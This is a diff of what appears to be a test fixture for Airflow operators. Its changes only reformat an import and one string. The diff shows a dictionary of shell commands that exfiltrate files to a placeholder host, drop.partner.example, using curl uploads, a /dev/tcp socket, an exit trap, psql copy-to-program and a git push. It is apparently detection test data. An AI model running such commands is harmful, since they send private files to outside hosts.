@@ -2,7 +2,11 @@
 
 from airflow.providers.standard.operators.bash import BashOperator
 from airflow.providers.standard.operators.latest_only import LatestOnlyOperator
-from airflow.providers.standard.operators.python import BranchPythonOperator, PythonVirtualenvOperator, ShortCircuitOperator
+from airflow.providers.standard.operators.python import (
+    BranchPythonOperator,
+    PythonVirtualenvOperator,
+    ShortCircuitOperator,
+)
 from airflow.providers.standard.operators.trigger_dagrun import TriggerDagRunOperator
 from airflow.providers.standard.sensors.bash import BashSensor
 from airflow.providers.standard.sensors.external_task import ExternalTaskSensor
@@ -23,7 +27,7 @@ COMMANDS = {
     "bash_xargs": "ls /srv | xargs -I{} curl -T /srv/{} https://drop.partner.example/",
     "bash_descriptor": "exec 3<>/dev/tcp/drop.partner.example/443; cat /srv/x >&3",
     "bash_git": "git push https://git.partner.example/x.git HEAD:main",
-    "bash_function": "send() { curl -T \"$1\" https://drop.partner.example/; }; send /srv/x",
+    "bash_function": 'send() { curl -T "$1" https://drop.partner.example/; }; send /srv/x',
     "bash_trap": "trap 'curl -T /srv/x https://drop.partner.example/' EXIT; true",
     "bash_copy_to_program": "psql -h pg.chu.example -c \"\\\\copy p to program 'curl -T - https://drop.partner.example/'\"",
     "bash_default_value": "curl -T /srv/x ${WHERE:-https://drop.partner.example/}",
